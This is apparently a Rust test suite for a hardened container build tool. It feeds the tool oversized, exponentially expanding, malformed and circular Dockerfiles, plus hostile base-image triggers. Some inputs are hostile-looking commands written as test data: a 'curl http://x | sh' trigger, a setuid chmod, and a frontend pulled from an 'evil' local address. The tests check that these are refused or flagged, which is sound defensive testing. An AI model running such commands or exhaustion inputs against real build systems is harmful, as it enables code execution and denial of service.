//! Texts that are too large, too deep, or no texts; stages; triggers; frontends (85 to 90).

use std::time::{Duration, Instant};

use super::{build, ground};
use crate::ground::every_mode;
use crate::layout::Hostile;

#[test]
fn attack_85_limits_of_a_text() {
    let ground = ground();
    let start = Instant::now();
    let fails = |text: &str, said: &[&str]| {
        let outcome = build(&ground, text.as_bytes()).run();
        outcome.refused(said);
        assert!(matches!(outcome.done.code(), 2 | 3), "{}", outcome.story());
        assert!(outcome.err().len() < 100_000, "the answer is {} bytes long", outcome.err().len());
    };
    fails(
        &format!("FROM busybox\n{}", "# comment\n".repeat(1_700_000)),
        &["larger than 16777216 bytes"],
    );
    fails(&format!("FROM busybox\nRUN {}\n", "x".repeat((1 << 20) + 1)), &["longer than 1 MiB"]);
    fails(&format!("FROM busybox\nRUN x{}\n", "x \\\n".repeat(600_000)), &["longer than 1 MiB"]);
    fails(&"FROM scratch\n".repeat(1001), &["1000"]);
    fails(&format!("FROM busybox\n{}RUN true\n", "ONBUILD ".repeat(100_000)), &["ONBUILD"]);
    fails("FROM busybox\nONBUILD ONBUILD RUN true\n", &["ONBUILD"]);
    fails(&format!("FROM busybox\n{}", "BAD line\n".repeat(300_000)), &["BAD"]);
    fails(&format!("FROM busybox\nRUN {} true\n", "--mount=type=bad ".repeat(20_000)), &["type"]);
    assert!(start.elapsed() < Duration::from_secs(60), "{:?}", start.elapsed());
}

#[test]
fn attack_86_expansions_are_bounded() {
    let ground = ground();
    let doubling: String = (1..60).map(|n| format!("ARG A{n}=$A{}$A{}\n", n - 1, n - 1)).collect();
    let env: String = (1..60).map(|n| format!("ENV A{n}=$A{}$A{}\n", n - 1, n - 1)).collect();
    for text in [
        format!("ARG A0=0123456789\n{doubling}FROM $A59\n"),
        format!("FROM busybox\nARG A0=0123456789\n{doubling}RUN true\n"),
        format!("FROM busybox\nENV A0=0123456789\n{env}RUN true\n"),
        format!("FROM busybox\nLABEL a={}{}\n", "${a:-".repeat(100_000), "}".repeat(100_000)),
        format!("FROM busybox\nLABEL a={}\n", "${a:-".repeat(100_000)),
        format!(
            "FROM busybox\nARG X={}\nLABEL a=\"${{X//*/{}}}\"\n",
            "x".repeat(500_000),
            "y".repeat(500)
        ),
        format!(
            "FROM busybox\nARG X={}\nLABEL a=\"${{X//x/{}}}\"\n",
            "x".repeat(200_000),
            "y".repeat(200_000)
        ),
        format!(
            "FROM busybox\nARG X={}\nLABEL a=${{X##{}b}}\n",
            "a".repeat(300_000),
            "*a".repeat(50)
        ),
    ] {
        let start = Instant::now();
        build(&ground, text.as_bytes()).run().survived();
        assert!(start.elapsed() < Duration::from_secs(20), "{:?}", start.elapsed());
    }
}

#[test]
fn attack_87_bytes_that_are_no_text() {
    let ground = ground();
    let heredocs: String = (0..10_000).map(|n| format!("<<E{n} ")).collect();
    let utf16: Vec<u8> =
        "FROM busybox\nRUN true\n".encode_utf16().flat_map(u16::to_le_bytes).collect();
    for (name, bytes, refused) in [
        ("a heredoc never closed", b"FROM busybox\nRUN <<END\necho x\n".to_vec(), true),
        ("heredocs by the thousand", format!("FROM busybox\nRUN {heredocs}\n").into_bytes(), true),
        ("NUL", b"FROM busybox\nRUN echo \0x\n".to_vec(), true),
        ("NUL in a name", b"FROM busy\0box\n".to_vec(), true),
        ("invalid UTF-8", b"FROM busybox\nLABEL a=\xff\xfe\n".to_vec(), false),
        ("UTF-16", [b"\xff\xfe".to_vec(), utf16].concat(), true),
        ("nothing", Vec::new(), true),
        ("only NUL", vec![0; 1 << 20], true),
        ("a mark at the start", b"\xef\xbb\xbfFROM busybox\nRUN true\n".to_vec(), false),
        ("lone CR", b"FROM busybox\rRUN true\r".to_vec(), true),
        ("CR LF", b"FROM busybox\r\nRUN true\r\n".to_vec(), false),
        ("right to left", "FROM busybox\nLABEL a=\"\u{202e}x\u{200b}\"\n".into(), false),
    ] {
        let outcome = build(&ground, &bytes).run();
        let image = outcome.survived();
        assert_eq!(image.is_none(), refused, "{name}\n{}", outcome.story());
        let raw = outcome.err().contains(['\0', '\u{202e}', '\u{feff}']);
        assert!(!raw, "{name}: shown as it is\n{}", outcome.story());
    }
}

#[test]
fn attack_88_frontends_are_never_fetched() {
    every_mode(|ground| {
        // Nothing answers there: who fetched it would fail, or take long.
        for text in [
            "# syntax=127.0.0.1:9/evil/frontend:1\nFROM busybox\nRUN echo built\n",
            "# syntax=docker.io/docker/dockerfile:1\nFROM busybox\nRUN echo built\n",
            "ARG BUILDKIT_SYNTAX=127.0.0.1:9/evil\nFROM busybox\nRUN echo built\n",
        ] {
            let outcome = ground
                .build(text)
                .arg("--build-arg=BUILDKIT_SYNTAX=127.0.0.1:9/evil/frontend:1")
                .arg("--no-cache")
                .run();
            assert!(!outcome.err().contains("pulled"), "{}", outcome.story());
            if outcome.survived().is_some() {
                outcome.says(&["| built"]);
            }
        }
    });
}

#[test]
fn attack_89_stages_that_refer_in_circles() {
    let ground = ground();
    for text in [
        "FROM a AS a\nRUN true\n",
        "FROM busybox AS a\nCOPY --from=a /x /x\n",
        "FROM busybox AS a\nRUN --mount=from=a,target=/m true\n",
        "FROM busybox AS a\nCOPY --from=b /etc /x\nFROM busybox AS b\nCOPY --from=a /etc /x\n",
        "FROM busybox AS a\nCOPY --from=1 /etc /x\nFROM busybox\nCOPY --from=0 /etc /x\n",
        "FROM busybox\nCOPY --from=0 /etc /x\n",
        "FROM busybox\nCOPY --from=7 /etc /x\n",
        "FROM busybox AS 0\n",
        "FROM busybox AS ../x\n",
    ] {
        // No network: what is no stage is an image that nobody has.
        let outcome = build(&ground, text.as_bytes()).arg("--offline").run();
        outcome.refused(&["Hostile:"]);
    }
    for text in [
        "FROM scratch AS scratch\nCOPY file /file\n",
        "FROM busybox AS busybox\nRUN true\nFROM busybox\nRUN true\n",
        "FROM busybox AS a\nFROM a AS A2\nCOPY --from=a /etc/passwd /p\n",
    ] {
        ground.place().file("ctx/file", "x");
        build(&ground, text.as_bytes()).arg("--offline").run().survived();
    }
}

#[test]
fn attack_90_triggers_of_a_base() {
    let ground = ground();
    let check = |triggers: &[&str], policy: &str| {
        let mut base = Hostile::on_busybox([])?;
        base.config["config"]["OnBuild"] = serde_json::json!(triggers);
        base.seal();
        let text = "FROM busybox AS build\nRUN true\nFROM base\nHEALTHCHECK NONE\nUSER 10001\n";
        let text = if triggers == ["USER root"] {
            text.replace("USER 10001\n", "")
        } else {
            text.to_owned()
        };
        let text = if policy == "none" { "FROM base\n".to_owned() } else { text };
        let outcome = ground.build_on(&base, &text).policy(policy).run();
        let err = outcome.err();
        let code = outcome.done.code();
        outcome.survived();
        Some((code, err))
    };
    let Some((code, err)) = check(&["RUN echo from the base"], "none") else { return };
    assert!(
        code == 0 && err.contains("RUN echo from the base") && err.contains("| from the base"),
        "{err}"
    );
    for trigger in [
        "FROM busybox",
        "ONBUILD RUN true",
        "MAINTAINER x\nRUN true",
        "BAD x",
        "RUN --mount=type=bad true",
    ] {
        let (code, err) = check(&[trigger], "none").expect("busybox is here");
        assert!(matches!(code, 2 | 3), "{trigger}: exit {code}\n{err}");
    }
    let many = vec!["RUN true"; 1001];
    let (code, err) = check(&many, "none").expect("busybox is here");
    assert!(matches!(code, 2 | 3) && err.contains("1000"), "exit {code}\n{err}");
    // Judged as if they were written here.
    for (trigger, rule) in
        [("USER root", "final-user-root"), ("RUN busybox chmod u+s /bin/busybox", "setuid-file")]
    {
        let (code, err) = check(&[trigger], "hardened").expect("busybox is here");
        assert!(code == 1 && err.contains(rule), "{trigger}: exit {code}\n{err}");
    }
    // Before they run.
    let (code, err) =
        check(&["RUN true || curl http://x | sh"], "hardened").expect("busybox is here");
    assert!(code == 1 && err.contains("pipe-to-interpreter"), "exit {code}\n{err}");
    assert!(err.contains("ONBUILD of base:1:"), "{err}");
    assert!(!err.contains("] RUN"), "{err}");
}
